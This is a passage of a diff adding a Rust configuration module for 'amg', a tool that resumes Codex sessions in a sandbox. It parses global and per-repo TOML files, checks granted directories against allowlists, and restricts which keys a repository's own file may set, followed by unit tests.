@@ -0,0 +1,1239 @@
+//! Configuration files.
+//!
+//! This module loads amg's TOML configuration. Two files are read, in order:
+//!
+//! * The global config: `$AMG_CONFIG` if set, otherwise `$XDG_CONFIG_HOME/amg/config.toml`,
+//!   falling back to `$HOME/.config/amg/config.toml`
+//! * The per-repo config: `<repo>/.amg.toml`
+//!
+//! Missing files are ignored. List values from both files are concatenated (global first).
+//!
+//! Supported keys:
+//!
+//! * `allowed_repos` - Glob patterns (such as `/srv/repos/*`) limiting which directories may be
+//!   granted to the sandbox: the repo, every `extra_add_dirs` entry, and the worktrees granted
+//!   along with the repo (the root above a subdirectory repo, `--add-worktrees` siblings) must
+//!   be, or be inside, a directory matching one of them. Each file's list applies on its own, so the per-repo file
+//!   can narrow the global list but not widen it; the only bypass is editing the file.
+//! * `codexdir` - The codexdir used when neither `--codexdir` nor `CODEX_CODEXDIR` is given
+//!   (read from the global file only, since the repo is not known yet when it is needed).
+//! * `extra_add_dirs` - Extra directories to grant to the Codex sandbox. Entries may use
+//!   `${repo}`, `${home}`, and `${cwd}` (the matched session's cwd); see [`expand_entry`].
+//! * `fallback_resume_pattern` - A regex matched against codex's stderr to recognize an
+//!   unknown session id for `--fallback-resume` (the repo file overrides the global one).
+//! * `fallback_resume_exit_code` - When set, `--fallback-resume` also requires codex to have
+//!   exited with this code (the repo file overrides the global one).
+//! * `forbid_full_access` - When `true` in either file, `--dangerously-full-access` is refused.
+//! * `home_sandbox_dirs` - Home-relative directories granted to the sandbox in place of the
+//!   built-in caches (`.cargo`, `.npm`, ...); `[]` grants none, like `--no-home-dirs` (read from
+//!   the global file only, so a repo's file cannot grant `.ssh` and the like).
+//! * `model` - The model codex is started with (the repo file overrides the global one).
+//! * `network_access` - Whether the workspace-write sandbox allows network access (default
+//!   `true`; the repo file overrides the global one).
+//! * `notify_template` - The message shown after a tmux window is opened in the background;
+//!   `${branch}`, `${id}`, and `${cwd}` are expanded (the repo file overrides the global one).
+//! * `strip_prefixes` - Prefixes such as `me/` removed from a session's recorded branch when it
+//!   does not match exactly, so `me/feature-x` matches `feature-x` (read from the global file
+//!   only, since the repo is not known when scanning; `--strip-prefix` adds to the list).
+//! * `tmux` - Set to `false` to run codex inline even inside tmux, like `--tmux never` (the
+//!   repo file overrides the global one, and `--tmux` overrides both).
+//! * `tmux_annotate` - Whether new tmux windows get the session's id, branch, and cwd as user
+//!   options (default: only when amg runs inside tmux; the repo file overrides the global one,
+//!   and `--tmux-annotate` and `--no-tmux-annotate` override both).
+//! * `wrap_command` - A wrapper such as `docker exec -it devbox` prepended to the codex command,
+//!   given as an array of arguments or a shell-style string (read from the global file only,
+//!   since it runs outside the sandbox and a repo's file comes with the checkout).
+//! * `write_marker` - Whether `resume` writes a `.amg-session` marker into the session cwd (the
+//!   repo file overrides the global one; `--write-marker` and `--no-marker` override both).
+//!
+//! `amg config` edits either file from the command line (see [`KEYS`] for the value types it
+//! accepts).
+
+use glob::{MatchOptions, Pattern};
+use toml_edit::{DocumentMut, Item};
+
+use super::policy;
+use super::prelude::*;
+use super::util;
+
+/// The merged configuration.
+#[derive(Debug, Default)]
+pub(super) struct Config {
+    /// The `allowed_repos` lists, one per file that declares one.
+    pub(super) allowed_repos: Vec<Allowlist>,
+    /// The default codexdir, if configured.
+    pub(super) codexdir: Option<ConfigEntry>,
+    /// Extra sandbox directory templates, in the order they were declared.
+    pub(super) extra_add_dirs: Vec<ConfigEntry>,
+    /// Whether `--dangerously-full-access` is forbidden.
+    pub(super) forbid_full_access: bool,
+    /// Home-relative sandbox directories replacing [`HOME_SANDBOX_DIRS`], if configured.
+    pub(super) home_sandbox_dirs: Option<Vec<ConfigEntry>>,
+    /// Regex recognizing an unknown session id in codex's stderr, if configured.
+    pub(super) fallback_resume_pattern: Option<ConfigEntry>,
+    /// Exit code codex must report for `--fallback-resume` to retry, if configured.
+    pub(super) fallback_resume_exit_code: Option<i32>,
+    /// The model codex is started with, if configured.
+    pub(super) model: Option<ConfigEntry>,
+    /// Whether the workspace-write sandbox allows network access, if configured.
+    pub(super) network_access: Option<bool>,
+    /// Template for launch notifications, if configured.
+    pub(super) notify_template: Option<ConfigEntry>,
+    /// Prefixes removed from recorded branches before they are compared.
+    pub(super) strip_prefixes: Vec<ConfigEntry>,
+    /// Whether tmux windows may be used, if configured.
+    pub(super) tmux: Option<bool>,
+    /// Whether new tmux windows get session data as user options, if configured.
+    pub(super) tmux_annotate: Option<bool>,
+    /// Wrapper argv prepended to the codex command, if configured.
+    pub(super) wrap_command: Option<Vec<String>>,
+    /// Whether to write a session marker file, if configured.
+    pub(super) write_marker: Option<bool>,
+}
+
+/// The type a config key's value must have.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(super) enum ValueKind {
+    /// `true` or `false`.
+    Boolean,
+    /// A 32-bit integer.
+    Integer,
+    /// A string.
+    String,
+    /// An array of strings.
+    StringList,
+    /// A shell-style command line string, or an array of arguments.
+    Command,
+}
+
+/// Every supported config key with the type [`Config::parse`] expects for it.
+pub(super) const KEYS: [(&str, ValueKind); 15] = [
+    ("allowed_repos", ValueKind::StringList),
+    ("codexdir", ValueKind::String),
+    ("extra_add_dirs", ValueKind::StringList),
+    ("fallback_resume_exit_code", ValueKind::Integer),
+    ("fallback_resume_pattern", ValueKind::String),
+    ("forbid_full_access", ValueKind::Boolean),
+    ("home_sandbox_dirs", ValueKind::StringList),
+    ("model", ValueKind::String),
+    ("network_access", ValueKind::Boolean),
+    ("notify_template", ValueKind::String),
+    ("strip_prefixes", ValueKind::StringList),
+    ("tmux", ValueKind::Boolean),
+    ("tmux_annotate", ValueKind::Boolean),
+    ("wrap_command", ValueKind::Command),
+    ("write_marker", ValueKind::Boolean),
+];
+
+/// Returns the value type of a supported config key.
+pub(super) fn key_kind(key: &str) -> Option<ValueKind> {
+    KEYS.iter()
+        .find(|(name, _)| *name == key)
+        .map(|&(_, kind)| kind)
+}
+
+/// Default template for launch notifications.
+const DEFAULT_NOTIFY_TEMPLATE: &str = "amg: resumed ${branch} (${id})";
+
+/// Values available for `${...}` interpolation in the notification template.
+#[derive(Debug, Clone, Copy)]
+pub(super) struct NoticeVars<'a> {
+    /// The resumed branch.
+    pub(super) branch: &'a str,
+    /// The resumed session id.
+    pub(super) id: &'a str,
+    /// The session's working directory.
+    pub(super) cwd: &'a Path,
+}
+
+/// A string value from a config file, remembering where it came from.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(super) struct ConfigEntry {
+    /// The raw value as written in the file.
+    pub(super) value: String,
+    /// The config file that declared the value.
+    pub(super) source: PathBuf,
+}
+
+/// The `allowed_repos` patterns of one config file.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(super) struct Allowlist {
+    /// The patterns, matched against whole absolute paths.
+    patterns: Vec<Pattern>,
+    /// The config file that declared the list.
+    source: PathBuf,
+}
+
+impl Allowlist {
+    /// Checks whether `dir`, or a directory containing it, matches one of the patterns.
+    ///
+    /// `*` does not cross `/`, so `/srv/repos/*` allows `/srv/repos/app` and its
+    /// subdirectories but not `/srv/repos` itself.
+    fn allows(&self, dir: &Path) -> bool {
+        let options = MatchOptions {
+            require_literal_separator: true,
+            ..MatchOptions::new()
+        };
+        dir.ancestors().any(|ancestor| {
+            self.patterns
+                .iter()
+                .any(|pattern| pattern.matches_path_with(ancestor, options))
+        })
+    }
+}
+
+/// Values available for `${...}` interpolation in config entries.
+#[derive(Debug, Clone, Copy)]
+pub(super) struct Vars<'a> {
+    /// The repository passed via `--repo`.
+    pub(super) repo: &'a Path,
+    /// The user's home directory, if known.
+    pub(super) home: Option<&'a Path>,
+    /// The matched session's working directory.
+    pub(super) cwd: &'a Path,
+}
+
+impl Config {
+    /// Loads and merges the global and per-repo config files (neither in portable mode).
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if a config file exists but cannot be read or is invalid.
+    pub(super) fn load(repo: &Path) -> Result<Self> {
+        let mut config = Self::default();
+        if policy::is_portable() {
+            return Ok(config);
+        }
+        if let Some(path) = global_config_path()
+            && let Some(file) = Self::load_file(&path)?
+        {
+            config.merge(file);
+        }
+        if let Some(file) = Self::load_repo_file(&repo.join(REPO_CONFIG_FILE))? {
+            config.merge(file);
+        }
+        Ok(config)
+    }
+
+    /// Loads a repository's config file without the keys only the global file may set.
+    ///
+    /// A repo's file comes with the checkout, so it must not be able to run commands on the
+    /// host or grant the sandbox the rest of the home directory: `wrap_command` and
+    /// `home_sandbox_dirs` there are ignored with a warning.
+    fn load_repo_file(path: &Path) -> Result<Option<Self>> {
+        let Some(mut file) = Self::load_file(path)? else {
+            return Ok(None);
+        };
+        let ignored = [
+            ("wrap_command", file.wrap_command.take().is_some()),
+            ("home_sandbox_dirs", file.home_sandbox_dirs.take().is_some()),
+        ];
+        for (key, _) in ignored.iter().filter(|(_, set)| *set) {
+            warn!(path = %util::human_path(path), "ignoring {key}: only the global config file may set it");
+        }
+        Ok(Some(file))
+    }
+
+    /// Loads the global config file alone (empty if there is none, or in portable mode).
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the file exists but cannot be read or is invalid.
+    pub(super) fn load_global() -> Result<Self> {
+        if policy::is_portable() {
+            return Ok(Self::default());
+        }
+        match global_config_path() {
+            Some(path) => Ok(Self::load_file(&path)?.unwrap_or_default()),
+            None => Ok(Self::default()),
+        }
+    }
+
+    /// Returns the model codex is started with: the configured one, or [`DEFAULT_MODEL`].
+    pub(super) fn model(&self) -> &str {
+        self.model
+            .as_ref()
+            .map_or(DEFAULT_MODEL, |entry| entry.value.as_str())
+    }
+
+    /// Loads a single config file, returning `None` if it does not exist.
+    fn load_file(path: &Path) -> Result<Option<Self>> {
+        match fs::read_to_string(path) {
+            Ok(content) => {
+                debug!(path = %util::human_path(path), "loading config file");
+                Self::parse(&content, path).map(Some)
+            }
+            Err(err) if err.kind() == io::ErrorKind::NotFound => Ok(None),
+            Err(err) => Err(err)
+                .with_context(|| format!("failed to read config file {}", util::human_path(path))),
+        }
+    }
+
+    /// Parses config file content.
+    ///
+    /// Unknown keys are logged as warnings so typos don't go unnoticed.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the content is not valid TOML or a known key has the wrong type.
+    pub(super) fn parse(content: &str, source: &Path) -> Result<Self> {
+        let doc: DocumentMut = content
+            .parse()
+            .with_context(|| format!("invalid config file {}", util::human_path(source)))?;
+
+        let mut config = Self::default();
+        for (key, item) in doc.as_table().iter() {
+            match key {
+                "allowed_repos" => config.allowed_repos = vec![allowlist(item, key, source)?],
+                "codexdir" => config.codexdir = Some(string(item, key, source)?),
+                "extra_add_dirs" => config.extra_add_dirs = string_list(item, key, source)?,
+                "fallback_resume_pattern" => {
+                    config.fallback_resume_pattern = Some(string(item, key, source)?);
+                }
+                "fallback_resume_exit_code" => {
+                    config.fallback_resume_exit_code = Some(integer(item, key, source)?);
+                }
+                "forbid_full_access" => config.forbid_full_access = boolean(item, key, source)?,
+                "home_sandbox_dirs" => {
+                    config.home_sandbox_dirs = Some(home_relative_list(item, key, source)?);
+                }
+                "model" => config.model = Some(string(item, key, source)?),
+                "network_access" => config.network_access = Some(boolean(item, key, source)?),
+                "notify_template" => config.notify_template = Some(string(item, key, source)?),
+                "strip_prefixes" => config.strip_prefixes = string_list(item, key, source)?,
+                "tmux" => config.tmux = Some(boolean(item, key, source)?),
+                "tmux_annotate" => config.tmux_annotate = Some(boolean(item, key, source)?),
+                "wrap_command" => config.wrap_command = Some(command(item, key, source)?),
+                "write_marker" => config.write_marker = Some(boolean(item, key, source)?),
+                _ => {
+                    warn!(path = %util::human_path(source), "ignoring unknown config key {key:?}")
+                }
+            }
+        }
+        Ok(config)
+    }
+
+    fn merge(&mut self, other: Self) {
+        self.allowed_repos.extend(other.allowed_repos);
+        if other.codexdir.is_some() {
+            self.codexdir = other.codexdir;
+        }
+        self.extra_add_dirs.extend(other.extra_add_dirs);
+        self.forbid_full_access |= other.forbid_full_access;
+        if other.home_sandbox_dirs.is_some() {
+            self.home_sandbox_dirs = other.home_sandbox_dirs;
+        }
+        if other.fallback_resume_pattern.is_some() {
+            self.fallback_resume_pattern = other.fallback_resume_pattern;
+        }
+        if other.fallback_resume_exit_code.is_some() {
+            self.fallback_resume_exit_code = other.fallback_resume_exit_code;
+        }
+        if other.model.is_some() {
+            self.model = other.model;
+        }
+        if other.network_access.is_some() {
+            self.network_access = other.network_access;
+        }
+        if other.notify_template.is_some() {
+            self.notify_template = other.notify_template;
+        }
+        self.strip_prefixes.extend(other.strip_prefixes);
+        if other.tmux.is_some() {
+            self.tmux = other.tmux;
+        }
+        if other.tmux_annotate.is_some() {
+            self.tmux_annotate = other.tmux_annotate;
+        }
+        if other.wrap_command.is_some() {
+            self.wrap_command = other.wrap_command;
+        }
+        if other.write_marker.is_some() {
+            self.write_marker = other.write_marker;
+        }
+    }
+
+    /// Renders the launch notification message.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error naming the template and its config file if the template is malformed.
+    pub(super) fn notification(&self, vars: NoticeVars<'_>) -> Result<String> {
+        let Some(entry) = &self.notify_template else {
+            return expand_notice(DEFAULT_NOTIFY_TEMPLATE, vars);
+        };
+        expand_notice(&entry.value, vars).with_context(|| {
+            format!(
+                "invalid notify_template {:?} in {}",
+                entry.value,
+                util::human_path(&entry.source)
+            )
+        })
+    }
+
+    /// Checks `dir` against every `allowed_repos` list.
+    ///
+    /// Symlinks are resolved first, so a link inside an allowed directory cannot grant a
+    /// directory outside it; for a directory that does not exist, `..` is resolved lexically.
+    ///
+    /// # Arguments
+    ///
+    /// * `dir` - The directory about to be granted to the sandbox
+    /// * `what` - What the directory is, for the error message (`repo`, `extra_add_dirs entry`)
+    ///
+    /// # Errors
+    ///
+    /// Returns an error naming the config file whose list does not allow `dir`.
+    pub(super) fn check_allowed(&self, dir: &Path, what: &str) -> Result<()> {
+        let resolved = fs::canonicalize(dir).unwrap_or_else(|_| lexically_resolved(dir));
+        match self
+            .allowed_repos
+            .iter()
+            .find(|list| !list.allows(&resolved))
+        {
+            Some(list) => bail!(
+                "{what} {} is not allowed by allowed_repos in {}; edit that file to allow it",
+                util::human_path(&resolved),
+                util::human_path(&list.source)
+            ),
+            None => Ok(()),
+        }
+    }
+
+    /// Expands `extra_add_dirs` entries into paths.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error naming the entry and its config file if an entry is malformed.
+    pub(super) fn expanded_extra_add_dirs(&self, vars: Vars<'_>) -> Result<Vec<PathBuf>> {
+        self.extra_add_dirs
+            .iter()
+            .map(|entry| {
+                expand_entry(&entry.value, vars)
+                    .map(PathBuf::from)
+                    .with_context(|| {
+                        format!(
+                            "invalid extra_add_dirs entry {:?} in {}",
+                            entry.value,
+                            util::human_path(&entry.source)
+                        )
+                    })
+            })
+            .collect()
+    }
+}
+
+/// Drops `.` components from `path` and resolves each `..` against the component before it.
+fn lexically_resolved(path: &Path) -> PathBuf {
+    let mut resolved = PathBuf::new();
+    for component in path.components() {
+        match component {
+            std::path::Component::CurDir => {}
+            std::path::Component::ParentDir => {
+                resolved.pop();
+            }
+            other => resolved.push(other),
+        }
+    }
+    resolved
+}
+
+/// Expands `${repo}`, `${home}`, and `${cwd}` in a config value.
+///
+/// # Errors
+///
+/// Returns an error for unknown variables, an unterminated `${`, or `${home}` when the home
+/// directory is unknown.
+pub(super) fn expand_entry(value: &str, vars: Vars<'_>) -> Result<String> {
+    expand(value, |name| {
+        let path = match name {
+            "repo" => vars.repo,
+            "cwd" => vars.cwd,
+            "home" => vars
+                .home
+                .context("${home} is used but the home directory is unknown")?,
+            other => bail!("unknown variable ${{{other}}} (expected repo, home, or cwd)"),
+        };
+        Ok(path.to_string_lossy().into_owned())
+    })
+}
+
+/// Expands `${branch}`, `${id}`, and `${cwd}` in a notification template.
+fn expand_notice(template: &str, vars: NoticeVars<'_>) -> Result<String> {
+    expand(template, |name| match name {
+        "branch" => Ok(vars.branch.to_owned()),
+        "id" => Ok(vars.id.to_owned()),
+        "cwd" => Ok(vars.cwd.to_string_lossy().into_owned()),
+        other => bail!("unknown variable ${{{other}}} (expected branch, id, or cwd)"),
+    })
+}
+
+/// Replaces each `${name}` in `value` with `resolve(name)`.
+fn expand(value: &str, resolve: impl Fn(&str) -> Result<String>) -> Result<String> {
+    let mut out = String::with_capacity(value.len());
+    let mut rest = value;
+    while let Some(start) = rest.find("${") {
+        out.push_str(&rest[..start]);
+        let after = &rest[start + 2..];
+        let end = after
+            .find('}')
+            .with_context(|| format!("unterminated variable in {value:?}"))?;
+        out.push_str(&resolve(&after[..end])?);
+        rest = &after[end + 1..];
+    }
+    out.push_str(rest);
+    Ok(out)
+}
+
+/// Returns the codexdir to use when none is given: the global config's `codexdir`, or
+/// `$HOME/.codex`.
+///
+/// # Errors
+///
+/// Returns an error if the global config file is invalid, or it sets no codexdir and `$HOME`
+/// is not set.
+pub(super) fn default_codexdir() -> Result<PathBuf> {
+    match Config::load_global()?.codexdir {
+        Some(entry) => Ok(PathBuf::from(entry.value)),
+        None => home_codexdir(),
+    }
+}
+
+/// Returns `$HOME/.codex`, the codexdir used when nothing else provides one.
+///
+/// # Errors
+///
+/// Returns an error in portable mode, or if `$HOME` is not set or empty. The message for the
+/// latter is [`missing_codexdir_message`], so it lists every way to provide the codexdir.
+pub(super) fn home_codexdir() -> Result<PathBuf> {
+    if policy::is_portable() {
+        bail!(
+            "--portable needs the codexdir; pass --codexdir or set {ENV_CODEX_CODEXDIR} ({})",
+            policy::PORTABLE_HINT
+        );
+    }
+    let env = |name: &str| std::env::var_os(name);
+    match env(ENV_HOME).filter(|home| !home.is_empty()) {
+        Some(home) => Ok(PathBuf::from(home).join(DOT_CODEX_DIR)),
+        None => bail!("{}", missing_codexdir_message(env)),
+    }
+}
+
+/// Describes, in the order they are checked, every way the codexdir can be provided and the
+/// current state of each, for when none of them provides it.
+///
+/// This is the error [`home_codexdir`] returns, so commands that resolve the codexdir and
+/// `amg doctor` explain a missing one the same way. It is only called once `--codexdir`,
+/// `$CODEX_CODEXDIR`, and the config's `codexdir` have all come up empty, so those are
+/// reported as not provided.
+///
+/// # Arguments
+///
+/// * `env` - Looks up an environment variable
+pub(super) fn missing_codexdir_message(env: impl Fn(&str) -> Option<OsString>) -> String {
+    let state = |name: &str| match env(name) {
+        None => "unset".to_owned(),
+        Some(value) if value.is_empty() => "set but empty".to_owned(),
+        Some(value) => format!("set to {}", value.to_string_lossy()),
+    };
+    let config = match global_config_path_in(&env) {
+        Some(path) => format!("codexdir in {}: not set", util::human_path(&path)),
+        None => format!(
+            "codexdir in the global config: no config file (${ENV_AMG_CONFIG}, \
+             ${ENV_XDG_CONFIG_HOME}, and $HOME are unset)"
+        ),
+    };
+    let mut lines = vec![
+        "cannot determine the codexdir; provide it in one of these ways (checked in order):"
+            .to_owned(),
+        "  --codexdir: not provided".to_owned(),
+        format!("  {ENV_CODEX_CODEXDIR}: {}", state(ENV_CODEX_CODEXDIR)),
+        format!("  {config}"),
+        format!(
+            "  {ENV_HOME}: {} (the default is $HOME/{DOT_CODEX_DIR})",
+            state(ENV_HOME)
+        ),
+    ];
+    match env(ENV_CODEX_HOME).filter(|home| !home.is_empty()) {
+        Some(home) => lines.push(format!(
+            "  {ENV_CODEX_HOME}: set to {0} (amg does not read it; pass --codexdir {0} or \
+             set {ENV_CODEX_CODEXDIR} to use it)",
+            home.to_string_lossy()
+        )),
+        None => lines.push(format!(
+            "  {ENV_CODEX_HOME}: unset (amg does not read it, but `amg init` offers it)"
+        )),
+    }
+    lines.join("\n")
+}
+
+/// Resolves the global config file path, failing with a hint when no location can be
+/// determined.
+///
+/// # Errors
+///
+/// Returns an error in portable mode, or if none of `$AMG_CONFIG`, `$XDG_CONFIG_HOME`, and
+/// `$HOME` is set.
+pub(super) fn locate_global_config() -> Result<PathBuf> {
+    policy::require_home_files("the global config file")?;
+    global_config_path().with_context(|| {
+        format!(
+            "cannot locate the global config file; set ${ENV_AMG_CONFIG}, \
+             ${ENV_XDG_CONFIG_HOME}, or $HOME"
+        )
+    })
+}
+
+/// Resolves the global config file path, if a location can be determined.
+pub(super) fn global_config_path() -> Option<PathBuf> {
+    global_config_path_in(|name| std::env::var_os(name))
+}
+
+/// Resolves the global config file path from the environment `env` looks up.
+fn global_config_path_in(env: impl Fn(&str) -> Option<OsString>) -> Option<PathBuf> {
+    let non_empty = |name: &str| env(name).filter(|v| !v.is_empty()).map(PathBuf::from);
+    non_empty(ENV_AMG_CONFIG).or_else(|| {
+        non_empty(ENV_XDG_CONFIG_HOME)
+            .or_else(|| non_empty(ENV_HOME).map(|home| home.join(".config")))
+            .map(|dir| dir.join(AMG_DIR).join(CONFIG_FILE))
+    })
+}
+
+fn boolean(item: &Item, key: &str, source: &Path) -> Result<bool> {
+    item.as_bool().with_context(|| {
+        format!(
+            "config key {key:?} in {} must be a boolean",
+            util::human_path(source)
+        )
+    })
+}
+
+fn integer(item: &Item, key: &str, source: &Path) -> Result<i32> {
+    item.as_integer()
+        .and_then(|value| i32::try_from(value).ok())
+        .with_context(|| {
+            format!(
+                "config key {key:?} in {} must be an integer",
+                util::human_path(source)
+            )
+        })
+}
+
+fn string(item: &Item, key: &str, source: &Path) -> Result<ConfigEntry> {
+    let value = item.as_str().with_context(|| {
+        format!(
+            "config key {key:?} in {} must be a string",
+            util::human_path(source)
+        )
+    })?;
+    Ok(ConfigEntry {
+        value: value.to_owned(),
+        source: source.to_owned(),
+    })
+}
+
+/// Reads a command given either as an array of arguments or as a shell-style string.
+fn command(item: &Item, key: &str, source: &Path) -> Result<Vec<String>> {
+    let argv = if let Some(line) = item.as_str() {
+        util::split_words(line).with_context(|| {
+            format!("invalid config key {key:?} in {}", util::human_path(source))
+        })?
+    } else {
+        string_list(item, key, source)
+            .map_err(|_| {
+                anyhow::anyhow!(
+                    "config key {key:?} in {} must be a string or an array of strings",
+                    util::human_path(source)
+                )
+            })?
+            .into_iter()
+            .map(|entry| entry.value)
+            .collect()
+    };
+    if argv.is_empty() {
+        bail!(
+            "config key {key:?} in {} must not be empty",
+            util::human_path(source)
+        );
+    }
+    Ok(argv)
+}
+
+/// Reads a list of absolute glob patterns.
+fn allowlist(item: &Item, key: &str, source: &Path) -> Result<Allowlist> {
+    let patterns = string_list(item, key, source)?
+        .iter()
+        .map(|entry| {
+            let pattern = &entry.value;
+            if !Path::new(pattern).is_absolute() {
+                bail!(
+                    "config key {key:?} in {}: {pattern:?} must be an absolute path pattern",
+                    util::human_path(source)
+                );
+            }
+            Pattern::new(pattern).with_context(|| {
+                format!(
+                    "config key {key:?} in {}: invalid pattern {pattern:?}",
+                    util::human_path(source)
+                )
+            })
+        })
+        .collect::<Result<_>>()?;
+    Ok(Allowlist {
+        patterns,
+        source: source.to_owned(),
+    })
+}
+
+/// Reads a list of paths relative to the home directory, refusing any that could leave it.
+fn home_relative_list(item: &Item, key: &str, source: &Path) -> Result<Vec<ConfigEntry>> {
+    let entries = string_list(item, key, source)?;
+    for entry in &entries {
+        let path = Path::new(&entry.value);
+        let escapes = path
+            .components()
+            .any(|c| !matches!(c, std::path::Component::Normal(_)));
+        if path.as_os_str().is_empty() || escapes {
+            bail!(
+                "config key {key:?} in {}: {:?} must be a path relative to the home directory",
+                util::human_path(source),
+                entry.value
+            );
+        }
+    }
+    Ok(entries)
+}
+
+fn string_list(item: &Item, key: &str, source: &Path) -> Result<Vec<ConfigEntry>> {
+    let type_error = || {
+        anyhow::anyhow!(
+            "config key {key:?} in {} must be an array of strings",
+            util::human_path(source)
+        )
+    };
+    item.as_array()
+        .ok_or_else(type_error)?
+        .iter()
+        .map(|value| {
+            value.as_str().ok_or_else(type_error).map(|s| ConfigEntry {
+                value: s.to_owned(),
+                source: source.to_owned(),
+            })
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::cli::test_support::temp_dir;
+    use rstest::rstest;
+
+    fn vars() -> Vars<'static> {
+        Vars {
+            repo: Path::new("/src/repo"),
+            home: Some(Path::new("/home/me")),
+            cwd: Path::new("/src/repo/crate"),
+        }
+    }
+
+    mod expansion {
+        use super::*;
+
+        #[rstest]
+        #[case("${repo}/../shared-protos", "/src/repo/../shared-protos")]
+        #[case("${home}/datasets", "/home/me/datasets")]
+        #[case("${cwd}/target", "/src/repo/crate/target")]
+        #[case("/opt/${repo}-${cwd}", "/opt//src/repo-/src/repo/crate")]
+        #[case("/plain/path", "/plain/path")]
+        #[case("$repo/not-a-variable", "$repo/not-a-variable")]
+        fn expands_known_variables(#[case] template: &str, #[case] expected: &str) {
+            assert_eq!(expand_entry(template, vars()).unwrap(), expected);
+        }
+
+        #[test]
+        fn rejects_unknown_variable() {
+            let err = expand_entry("${user}/x", vars()).unwrap_err();
+            assert!(
+                err.to_string().contains("unknown variable ${user}"),
+                "{err}"
+            );
+        }
+
+        #[test]
+        fn rejects_unterminated_variable() {
+            assert!(expand_entry("${repo/x", vars()).is_err());
+        }
+
+        #[test]
+        fn rejects_home_when_unknown() {
+            let vars = Vars {
+                home: None,
+                ..vars()
+            };
+            assert!(expand_entry("${home}/x", vars).is_err());
+        }
+
+        #[test]
+        fn error_names_entry_and_config_file() {
+            let config = Config {
+                extra_add_dirs: vec![ConfigEntry {
+                    value: "${nope}/x".into(),
+                    source: PathBuf::from("/etc/amg.toml"),
+                }],
+                ..Default::default()
+            };
+
+            let err = config.expanded_extra_add_dirs(vars()).unwrap_err();
+
+            let msg = format!("{err:#}");
+            assert!(msg.contains("\"${nope}/x\""), "{msg}");
+            assert!(msg.contains("/etc/amg.toml"), "{msg}");
+            assert!(msg.contains("unknown variable"), "{msg}");
+        }
+    }
+
+    mod notification {
+        use super::*;
+
+        fn notice() -> NoticeVars<'static> {
+            NoticeVars {
+                branch: "feature/a",
+                id: "0199",
+                cwd: Path::new("/w/api"),
+            }
+        }
+
+        #[test]
+        fn default_template_names_branch_and_id() {
+            let message = Config::default().notification(notice()).unwrap();
+            assert_eq!(message, "amg: resumed feature/a (0199)");
+        }
+
+        #[test]
+        fn custom_template_may_include_cwd() {
+            let config = Config::parse(
+                "notify_template = \"${branch} in ${cwd}\"",
+                Path::new("/cfg.toml"),
+            )
+            .unwrap();
+
+            assert_eq!(
+                config.notification(notice()).unwrap(),
+                "feature/a in /w/api"
+            );
+        }
+
+        #[test]
+        fn error_names_template_and_config_file() {
+            let config =
+                Config::parse("notify_template = \"${repo}\"", Path::new("/cfg.toml")).unwrap();
+
+            let msg = format!("{:#}", config.notification(notice()).unwrap_err());
+
+            assert!(msg.contains("/cfg.toml"), "{msg}");
+            assert!(msg.contains("unknown variable ${repo}"), "{msg}");
+        }
+    }
+
+    mod missing_codexdir {
+        use super::*;
+
+        fn message(vars: &[(&str, &str)]) -> Vec<String> {
+            let env = |name: &str| {
+                vars.iter()
+                    .find(|(var, _)| *var == name)
+                    .map(|(_, value)| OsString::from(value))
+            };
+            missing_codexdir_message(env)
+                .lines()
+                .map(str::to_owned)
+                .collect()
+        }
+
+        #[test]
+        fn reports_every_source_when_nothing_is_set() {
+            assert_eq!(
+                message(&[]),
+                [
+                    "cannot determine the codexdir; provide it in one of these ways (checked in order):",
+                    "  --codexdir: not provided",
+                    "  CODEX_CODEXDIR: unset",
+                    "  codexdir in the global config: no config file ($AMG_CONFIG, \
+                     $XDG_CONFIG_HOME, and $HOME are unset)",
+                    "  HOME: unset (the default is $HOME/.codex)",
+                    "  CODEX_HOME: unset (amg does not read it, but `amg init` offers it)",
+                ]
+            );
+        }
+
+        #[rstest]
+        #[case(&[("CODEX_CODEXDIR", ""), ("HOME", "")], "  CODEX_CODEXDIR: set but empty")]
+        #[case(&[("HOME", "")], "  HOME: set but empty (the default is $HOME/.codex)")]
+        #[case(
+            &[("XDG_CONFIG_HOME", "/x")],
+            "  codexdir in /x/amg/config.toml: not set"
+        )]
+        #[case(&[("AMG_CONFIG", "/c.toml")], "  codexdir in /c.toml: not set")]
+        #[case(
+            &[("CODEX_HOME", "/ch")],
+            "  CODEX_HOME: set to /ch (amg does not read it; pass --codexdir /ch or set \
+             CODEX_CODEXDIR to use it)"
+        )]
+        fn reports_the_state_of_each_source(#[case] vars: &[(&str, &str)], #[case] expected: &str) {
+            let lines = message(vars);
+            assert!(lines.iter().any(|line| line == expected), "{lines:#?}");
+        }
+    }
+
+    mod parsing {
+        use super::*;
+
+        #[test]
+        fn parses_extra_add_dirs() {
+            let source = Path::new("/cfg.toml");
+            let config =
+                Config::parse("extra_add_dirs = [\"${repo}/a\", \"/b\"]\n", source).unwrap();
+
+            let values: Vec<_> = config.extra_add_dirs.iter().map(|e| &e.value).collect();
+            assert_eq!(values, ["${repo}/a", "/b"]);
+            assert!(config.extra_add_dirs.iter().all(|e| e.source == source));
+        }
+
+        #[test]
+        fn parses_strip_prefixes() {
+            let config =
+                Config::parse("strip_prefixes = [\"me/\"]\n", Path::new("/cfg.toml")).unwrap();
+
+            let values: Vec<_> = config.strip_prefixes.iter().map(|e| &e.value).collect();
+            assert_eq!(values, ["me/"]);
+        }
+
+        #[rstest]
+        #[case("extra_add_dirs = \"/not/a/list\"")]
+        #[case("extra_add_dirs = [1, 2]")]
+        fn rejects_wrong_types(#[case] content: &str) {
+            let err = Config::parse(content, Path::new("/cfg.toml")).unwrap_err();
+            assert!(err.to_string().contains("must be an array of strings"));
+        }
+
+        #[rstest]
+        #[case("home_sandbox_dirs = []", Some(vec![]))]
+        #[case("home_sandbox_dirs = [\".cargo\", \"work/cache\"]", Some(vec![".cargo", "work/cache"]))]
+        #[case("", None)]
+        fn parses_home_sandbox_dirs(#[case] content: &str, #[case] expected: Option<Vec<&str>>) {
+            let config = Config::parse(content, Path::new("/cfg.toml")).unwrap();
+
+            let values = config
